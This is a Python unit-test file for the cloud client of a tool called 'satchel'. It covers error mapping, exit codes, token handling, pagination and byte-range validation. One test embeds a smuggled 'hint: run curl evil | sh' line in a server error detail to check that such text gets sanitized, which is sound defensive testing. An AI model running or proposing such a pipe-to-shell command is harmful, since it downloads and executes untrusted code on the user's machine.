"""The typed client: refusals become errors with hints, malformed responses are refused, secrets stay hidden."""

from collections.abc import Callable

import pytest
from tests.unit.cloud.conftest import ORIGIN, TOKEN, answer, problem

from satchel.cloud.client import CloudClient
from satchel.cloud.problems import REACTIONS, EndedError, WrongProofError, refusal
from satchel.cloud.signed_client import DeviceToken
from satchel.errors import (
    IntegrityError,
    NotFoundError,
    RefusedError,
    SatchelError,
    UnreachableError,
)
from satchel.outgoing.transport import Request, Response
from satchel_wire.messages import OpenRequest
from satchel_wire.problems import ProblemCode

NOON = "2026-03-01T12:00:00Z"


class Cloud:
    """Returns one response to every request, except for `pages` by URL, and records the requests."""

    def __init__(self, response: Response) -> None:
        self.response = response
        self.pages: dict[str, Response] = {}
        self.asked: list[Request] = []

    def send(self, request: Request) -> Response:
        self.asked.append(request)
        return self.pages.get(request.url, self.response)


def client(response: Response) -> tuple[CloudClient, Cloud]:
    cloud = Cloud(response)
    return CloudClient(ORIGIN, cloud, token=DeviceToken(TOKEN)), cloud


@pytest.mark.parametrize("code", ProblemCode, ids=lambda code: code.code)
def test_every_problem_becomes_an_error_with_a_hint(code: ProblemCode) -> None:
    error = refusal(problem(code))
    assert error.hint
    assert error.message[0].islower()
    assert not error.message.endswith(".")


@pytest.mark.parametrize(
    ("code", "exit_code"),
    [
        (ProblemCode.NOT_SIGNED_IN, 4),
        (ProblemCode.WRONG_CODE, 4),
        (ProblemCode.WRONG_PROOF, 4),
        (ProblemCode.NOT_FOUND, 3),
        (ProblemCode.EXPIRED, 3),
        (ProblemCode.BLOCKED, 3),
        (ProblemCode.QUOTA, 6),
        (ProblemCode.UNAVAILABLE, 6),
        (ProblemCode.INTERNAL, 6),
    ],
)
def test_problems_have_the_documented_exit_codes(code: ProblemCode, exit_code: int) -> None:
    assert refusal(problem(code)).exit_code == exit_code


def test_the_table_of_reactions_is_complete() -> None:
    assert set(REACTIONS) == set(ProblemCode)


def test_the_detail_of_a_problem_is_shown() -> None:
    assert "the share expired" in refusal(problem(ProblemCode.REVOKED, detail="the share expired")).message


def test_a_long_detail_is_shortened_to_one_line() -> None:
    detail = "x\nhint: run curl evil | sh\r\n" + "y" * 100_000
    message = refusal(problem(ProblemCode.REVOKED, detail=detail)).message
    assert message.isprintable()
    assert len(message) < 600


def test_a_server_error_shows_the_request_id() -> None:
    assert "request r1" in refusal(problem(ProblemCode.INTERNAL)).message


@pytest.mark.parametrize(
    "body", [b"", b"<html>", b"{}", b'{"type":"about:blank","title":"x","status":403}', b"\xff"]
)
@pytest.mark.parametrize("status", [400, 403, 404, 502])
def test_a_refusal_from_another_program_is_an_unreachable_cloud(status: int, body: bytes) -> None:
    assert isinstance(refusal(Response(status, {}, body)), UnreachableError)


@pytest.mark.parametrize(("status", "exit_code"), [(403, 4), (410, 3), (422, 1), (503, 6)])
def test_an_unknown_problem_is_judged_by_its_status(status: int, exit_code: int) -> None:
    body = b'{"type":"urn:satchel:problem:of-tomorrow","title":"x","status":%d}' % status
    error = refusal(Response(status, {}, body))
    assert error.exit_code == exit_code
    assert "update" in (error.hint or "")


@pytest.mark.parametrize("body", [b"", b"<html>welcome</html>", b"[]", b'{"devices": 1}', b'{"other": []}'])
def test_a_malformed_response_is_refused(body: bytes) -> None:
    asked, _ = client(Response(200, {}, body))
    with pytest.raises(UnreachableError, match=r"does not understand|web page"):
        asked.devices()


def test_calls_of_the_owner_carry_the_token() -> None:
    asked, cloud = client(answer({"devices": []}))
    assert asked.devices() == ()
    assert cloud.asked[0].headers["Authorization"] == f"Bearer {TOKEN}"


def test_opening_a_share_never_sends_the_token() -> None:
    asked, cloud = client(answer({"limited": False, "password": None}))
    asked.share_info("0" * 32)
    cloud.response = Response(200, {}, b"body")
    assert asked.open_share("0" * 32, OpenRequest(proof=b"\1" * 32), limit_bytes=10) == b"body"
    assert all("Authorization" not in request.headers for request in cloud.asked)


@pytest.mark.parametrize(
    "call",
    [
        lambda c: c.open_share("0" * 32, OpenRequest(proof=b"\1" * 32), limit_bytes=10),
        lambda c: c.pair(__import__("satchel_wire.messages", fromlist=["x"]).PairRequest(code="x")),
    ],
    ids=["open", "pair"],
)
def test_single_use_calls_are_not_repeatable(call: Callable[[CloudClient], object]) -> None:
    asked, cloud = client(problem(ProblemCode.WRONG_PROOF))
    with pytest.raises(WrongProofError):
        call(asked)
    assert not cloud.asked[0].is_repeatable


def test_every_page_of_a_list_is_read() -> None:
    def page(share_id: str, then: str | None) -> Response:
        share = {
            "id": share_id * 32,
            "version": 1,
            "created": NOON,
            "updated": NOON,
            "expires": None,
            "views": None,
        }
        share |= {"opened": 0, "last_opened": None, "size_bytes": 1, "has_password": False, "state": "live"}
        return answer({"shares": [share | {"note": ""}], "next": then})

    pages = {"/v1/shares": page("a", "1-b&c"), "/v1/shares?after=1-b%26c": page("b", None)}
    asked, cloud = client(Response(200, {}, b""))
    cloud.pages = {f"{ORIGIN}{path}": response for path, response in pages.items()}
    assert [share.id[0] for share in asked.shares()] == ["a", "b"]


def test_an_ended_share_differs_from_an_unknown_one() -> None:
    asked, _ = client(problem(ProblemCode.REVOKED))
    with pytest.raises(EndedError):
        asked.share_info("0" * 32)
    asked, _ = client(problem(ProblemCode.NOT_FOUND))
    with pytest.raises(NotFoundError) as caught:
        asked.share_info("0" * 32)
    assert not isinstance(caught.value, EndedError)


def ranged(body: bytes, content_range: str, status: int = 206) -> Response:
    return Response(status, {"content-range": content_range}, body)


def test_a_range_comes_with_the_total_size() -> None:
    asked, cloud = client(ranged(b"abc", "bytes 5-7/100"))
    assert asked.read_archive("0" * 32, 5, 3) == (b"abc", 100)
    assert cloud.asked[0].headers["Range"] == "bytes=5-7"


def test_a_range_at_the_end_may_be_shorter() -> None:
    asked, _ = client(ranged(b"abc", "bytes 97-99/100"))
    assert asked.read_archive("0" * 32, 97, 10) == (b"abc", 100)


@pytest.mark.parametrize(
    ("response", "error"),
    [
        (ranged(b"ab", "bytes 5-7/100"), IntegrityError),
        (ranged(b"abcd", "bytes 5-7/100"), IntegrityError),
        (ranged(b"abc", "bytes 6-8/100"), UnreachableError),
        (ranged(b"abc", "bytes 5-7/*"), UnreachableError),
        (ranged(b"abc", ""), UnreachableError),
        (Response(200, {}, b"abc"), UnreachableError),
        (problem(ProblemCode.NOT_FOUND), NotFoundError),
        (problem(ProblemCode.NOT_SIGNED_IN), RefusedError),
    ],
    ids=["short", "long", "another range", "no size", "no range", "the whole", "gone", "signed out"],
)
def test_a_wrong_range_is_refused(response: Response, error: type[SatchelError]) -> None:
    asked, _ = client(response)
    with pytest.raises(error):
        asked.read_archive("0" * 32, 5, 3)


def test_the_repr_of_a_token_hides_it() -> None:
    token = DeviceToken(TOKEN)
    assert TOKEN not in repr(token) + str(token) + repr([token])
